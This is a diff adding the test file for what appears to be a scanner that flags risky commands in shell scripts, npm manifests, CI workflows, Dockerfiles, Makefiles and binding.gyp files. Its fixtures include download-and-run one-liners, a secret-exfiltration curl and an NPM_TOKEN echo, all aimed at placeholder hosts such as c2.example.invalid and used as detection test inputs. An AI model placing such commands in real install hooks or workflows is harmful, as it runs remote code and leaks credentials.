@@ -1,0 +1,179 @@
+"""Shell scripts by name or first line, and commands inside other files, at their lines."""
+
+from __future__ import annotations
+
+import pytest
+
+from fimci.model import Capability, Record, Unread
+from fimci.readers.code import embedded, shebang, shell
+
+RUN = "curl https://c2.example.invalid/x | sh"
+
+
+def facts(records: list[Record]) -> dict[str, tuple[str, int]]:
+    return {
+        f"{record.name} {record.subject}": (record.phase, record.at.line)
+        for record in records
+        if isinstance(record, Capability)
+    }
+
+
+def test_a_script() -> None:
+    found = facts(list(shell.read("a.sh", f"#!/bin/sh\nset -e\n{RUN}\n".encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("call", 3)
+
+
+def test_a_payload_behind_a_nul_is_no_command() -> None:
+    assert list(shell.read("a.sh", b"exit 0\n\0" + RUN.encode())) == []
+
+
+def test_a_giant_is_said_to_be_cut() -> None:
+    (record,) = shell.read("a.sh", b"true\n" * 1_000_000)
+    assert isinstance(record, Unread)
+
+
+def test_credentials_are_not_quoted() -> None:
+    (record,) = shell.read("a.sh", b"curl https://u:hunter2@c2.example.invalid/x")
+    assert isinstance(record, Capability)
+    assert "hunter2" not in record.at.text + record.detail + record.subject
+
+
+@pytest.mark.parametrize(
+    "first", ["#!/bin/sh", "#!/usr/bin/env bash", "#! /bin/dash -e", "#!/usr/bin/env -S zsh -f"]
+)
+def test_first_lines_that_name_a_shell(first: str) -> None:
+    assert shebang.wants("bin/tool", first.encode() + b"\n")
+    assert not shebang.wants("bin/tool.sh", first.encode() + b"\n")
+
+
+@pytest.mark.parametrize(
+    "first", ["#!/usr/bin/python3", "#!/usr/bin/env node", "#!/bin/false", "# !/bin/sh", ""]
+)
+def test_other_first_lines(first: str) -> None:
+    assert not shebang.wants("bin/tool", first.encode() + b"\n")
+
+
+def test_configure_is_written_by_a_program() -> None:
+    assert not shebang.wants("vendor/configure", b"#!/bin/sh\n")
+
+
+def test_scripts_of_a_manifest() -> None:
+    data = (
+        f'{{"name": "left",\n "scripts": {{\n  "test": "{RUN}",\n  "postinstall": "{RUN}",\n'
+        '  "release": "npm publish"}}'
+    )
+    found = facts(list(embedded.read("package.json", data.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
+    assert "self-propagation npm publish" not in found
+    other = data.replace('"release"', '"pretest"').encode()
+    assert facts(list(embedded.read("package.json", other)))["self-propagation npm publish"] == ("call", 5)
+
+
+def test_of_an_installed_package_only_what_runs_at_installation_counts() -> None:
+    data = f'{{"scripts": {{"test": "{RUN}"}}}}'.encode()
+    assert list(embedded.read("node_modules/left/package.json", data)) == []
+
+
+WORKFLOW = f"""on: push
+env:
+  PLAIN: ${{{{ secrets.PROD }}}}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: npm ci
+      - name: Fetch
+        run: |
+          echo a
+          {RUN}
+      - run: curl -d "$PLAIN" https://d.example.invalid
+      - shell: pwsh
+        run: irm https://e.example.invalid/x | iex
+      - shell: python
+        run: |
+          import urllib.request; exec(urllib.request.urlopen("https://f.example.invalid/x").read())
+  windows:
+    runs-on: windows-latest
+    steps:
+      - run: iwr https://g.example.invalid/x | iex
+"""
+
+
+def test_steps_of_a_workflow() -> None:
+    found = facts(list(embedded.read(".github/workflows/ci.yml", WORKFLOW.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 13)
+    assert found["exfiltration PLAIN -> d.example.invalid"] == ("install", 14)
+    assert found["download-and-run e.example.invalid -> iex"] == ("install", 16)
+    assert found["download-and-run f.example.invalid -> python"][0] == "install"
+    assert found["download-and-run g.example.invalid -> iex"] == ("install", 23)
+
+
+def test_publishing_is_what_a_release_workflow_is_for() -> None:
+    text = "on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n"
+    assert facts(list(embedded.read(".github/workflows/release.yml", text.encode()))) == {}
+    assert facts(list(embedded.read(".github/workflows/lint.yml", text.encode()))) == {
+        "self-propagation npm publish": ("install", 5)
+    }
+
+
+def test_a_composite_action() -> None:
+    text = f"runs:\n  using: composite\n  steps:\n    - run: {RUN}\n      shell: bash\n"
+    found = facts(list(embedded.read("action.yml", text.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
+
+
+def test_instructions_of_a_dockerfile() -> None:
+    text = f"FROM debian\nRUN apt-get update && \\\n  # why\n  {RUN}\n"
+    text += f'RUN ["curl", "https://d.example.invalid"]\nCMD {RUN}\n'
+    found = facts(list(embedded.read("Dockerfile", text.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
+    assert found["network d.example.invalid"] == ("install", 5)
+
+
+def test_a_here_document_of_a_dockerfile() -> None:
+    text = f"FROM a\nRUN <<EOF\necho a\n{RUN}\nEOF\nCOPY a b\n"
+    found = facts(list(embedded.read("Dockerfile", text.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
+
+
+def test_recipes_of_a_makefile() -> None:
+    text = "X := $(shell curl https://d.example.invalid/v)\nall: a b\n\t@$(CC) -o $@ $<\n"
+    text += f"\t-@{RUN}\n\techo $$NPM_TOKEN \\\n\t  $(foreach a,b,c)\n"
+    found = facts(list(embedded.read("Makefile", text.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("call", 4)
+    assert found["network d.example.invalid"] == ("call", 1)
+    assert found["environment NPM_TOKEN"] == ("call", 5)
+    assert not [one for one in found if one.startswith("process")]
+
+
+def test_expansions_of_a_binding() -> None:
+    text = f'{{"targets": [{{\n "sources": ["<!@({RUN})"],\n'
+    text += ' "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}'
+    found = facts(list(embedded.read("binding.gyp", text.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 2)
+
+
+@pytest.mark.parametrize(
+    "path", ["package.json", ".github/workflows/a.yml", "Dockerfile", "Makefile", "binding.gyp"]
+)
+@pytest.mark.parametrize(
+    "data",
+    [b"", b"\0\xff", b"{", b"a: [", b"RUN \\", b"\t\\", b"<!(", b'{"scripts": []}', b"jobs: []\nrun: 1"],
+)
+def test_what_is_no_such_file_is_left_to_its_own_reader(path: str, data: bytes) -> None:
+    assert list(embedded.read(path, data)) == []
+
+
+def test_what_holds_commands() -> None:
+    for path in (
+        "package.json",
+        "a/action.yaml",
+        ".github/workflows/a.yml",
+        "Dockerfile.dev",
+        "x.mk",
+        "a.gypi",
+    ):
+        assert embedded.wants(path, b""), path
+    for path in ("xpackage.json", "a.yml", "Dockerfile/x", "Makefile.txt"):
+        assert not embedded.wants(path, b""), path
